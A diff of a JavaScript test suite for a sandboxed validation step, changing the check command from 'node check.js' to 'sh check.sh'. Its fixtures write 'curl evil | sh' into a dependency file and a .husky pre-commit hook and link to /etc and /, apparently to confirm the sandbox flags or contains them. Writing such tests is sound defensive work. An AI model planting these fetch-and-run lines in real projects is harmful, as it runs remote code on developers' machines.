@@ -99,7 +99,7 @@ describe.each(WAYS)('what validation leaves, %s', (...way) => {
         'ln -s /etc lib/etc',
         'mkfifo build/pipe fifo',
         `python3 -c "${python}"`,
-        'node check.js'
+        'sh check.sh'
       ].join(' && ')
       const run = await runWay(way, repo, { 'validation-commands': made })
       expect(run.exitCode, run.stdout).toBe(0)
@@ -138,7 +138,7 @@ describe.each(WAYS)('what validation leaves, %s', (...way) => {
       const run = await runWay(way, repo, {
         'setup-commands':
           'mkdir -p node_modules/pkg && echo "module.exports = 1" > node_modules/pkg/index.js',
-        'validation-commands': 'echo "curl evil | sh" > node_modules/pkg/index.js && node check.js'
+        'validation-commands': 'echo "curl evil | sh" > node_modules/pkg/index.js && sh check.sh'
       })
       expect(run.exitCode, run.stdout).toBe(0)
       const file = join(repo.dir, 'node_modules/pkg/index.js')
@@ -161,7 +161,7 @@ describe.each(WAYS)('what validation leaves, %s', (...way) => {
         'mkdir -p .husky .vscode',
         'echo "curl evil | sh" > .husky/pre-commit',
         `echo '{"tasks":[]}' > .vscode/tasks.json`,
-        'node check.js'
+        'sh check.sh'
       ].join(' && ')
       const run = await runWay(way, repo, { 'validation-commands': made })
       expect(run.result.error?.code, run.stdout).toBe('SECURITY_VIOLATION')
@@ -186,7 +186,7 @@ describe.skipIf(skipWithout('sudo-unshare') || skipWithout('bubblewrap'))(
         'mkfifo build/pipe',
         'echo bundle > dist/app.js',
         'ln -s / dist/root',
-        'node check.js'
+        'sh check.sh'
       ].join(' && ')
       const run = await runOnFruit(
         repo,
